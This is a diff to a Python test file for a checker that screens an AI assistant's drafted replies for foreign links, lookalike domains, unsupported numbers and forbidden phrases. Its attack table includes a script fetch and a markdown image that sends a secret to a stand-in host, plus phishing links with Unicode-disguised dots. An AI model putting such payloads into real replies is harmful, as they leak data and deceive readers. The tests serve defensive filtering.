@@ -119,6 +119,13 @@ async def test_an_answer_of_another_shape_is_not_used(knowing, talk, partner, mo
 ATTACKS = {
     "a foreign link": reply("See https://evil.example/pay to pay for the Professional audit."),
     "a hidden link": reply("Pay at evil.example/login now."),
+    "a name under any ending": reply("Log in at evil.click now."),
+    "a name that is no sentence": reply("Pay: pay-evil.ai/login"),
+    "another dot": reply("Pay at evil。com for the Professional audit."),
+    "another dot, unseen letters": reply("Pay at ev\u00adil．com for the Professional audit."),
+    "numbers for a name": reply("Pay at 203.0.113.7/evil for the Professional audit."),
+    "half a name": reply("Ask at evil.example.co about the Professional audit."),
+    "cents": reply("The Professional audit costs €649.95."),
     "a script": reply("<script>fetch('//evil.example')</script>The Professional audit costs €649."),
     "a picture": reply("![x](https://evil.example/?q=secret) The Professional audit costs €649."),
     "a reference": reply("The Professional audit costs €649 [here][1]\n\n[1]: //evil.example/x"),
@@ -209,6 +216,43 @@ async def test_a_cap_of_nothing_switches_it_off_and_tomorrow_is_another_day(know
     tomorrow = clock.now() + timedelta(days=1)
     assert (await answering.answer(knowing, talk, QUESTION, model, tomorrow)).why_not == ""
     assert {str(each.day) for each in await AssistantDay.of(knowing)} == {str(clock.now().date()), str(tomorrow.date())}
+
+
+@pytest.mark.parametrize(
+    ("text", "wrong"),
+    [
+        ("Ask at harbor.com, or at docs.stripe.com/pay.", ""), ("See https://harbor.com/ and report-2026.pdf", ""),
+        ("For audits, e.g. small ones, z.B. 1 revision i.e. €49.", ""), ("Write to help@harbor.com.au.", ""),
+        ("See test.local/x", ""), ("你好。再见", ""), ("Ask at harbor.co", "links"), ("See harbor.com.au", "links"),
+        ("See docs.stripe.com/other", "links"), ("See own.harbor.com", "links"), ("Write to help@harbor.com", "addresses"),
+        ("Write to ahelp@harbor.com.au", "addresses"), ("See …evil.click", "links"), ("See report.pdf", "links"),
+        ("It costs 49.95", "numbers"), ("It is 1 000", "numbers"), ("Costs 49.00", ""),
+    ],
+)  # fmt: skip
+async def test_names_addresses_and_numbers_are_compared_whole(text, wrong):
+    source = (
+        "Harbor, harbor.com, help@harbor.com.au: audits from €49, e.g. with 1 revision. "
+        "See https://docs.stripe.com/pay and report-2026.pdf"
+    )
+    found = checking.check(text, [source], {"test.local"})
+    assert [each.name for each in found if not each.ok and each.name != "grounded"] == [wrong] * bool(wrong)
+
+
+async def test_a_text_without_end_is_looked_at_all_the_same():
+    for bad in ("a", "a.", "1.", "1 ", "a@", "a-", "@"):
+        assert checking.check(bad * 10_000, ["It costs €649."], {"test.local"})
+
+
+async def test_what_the_organization_never_says_is_not_said(knowing, talk, partner, model):
+    persona = {"never_says": ["five  working", "Cheap"]}
+    await Organization.update({Organization.persona: persona}).where(Organization.id == knowing.id)
+    organization = await Organization.objects().where(Organization.id == knowing.id).first()
+    partner.writes = lambda said: reply("The Professional audit costs €649, it is cheaper.")
+    answer = await answered(organization, talk, model)
+    assert "Says what is never said: Cheap" in answer.why_not
+    assert "Never say: five working; Cheap." in partner.sent("openai")[0]["body"]["messages"][0]["content"]
+    said = checking.check("A discounted audit, no discount over 10%.", ["x"], [], never=["discount", "a b", ""])
+    assert [each.name for each in said if not each.ok and each.said.endswith("discount")] == ["never"]
 
 
 async def test_what_a_person_sees_beside_a_draft_says_what_is_wrong():
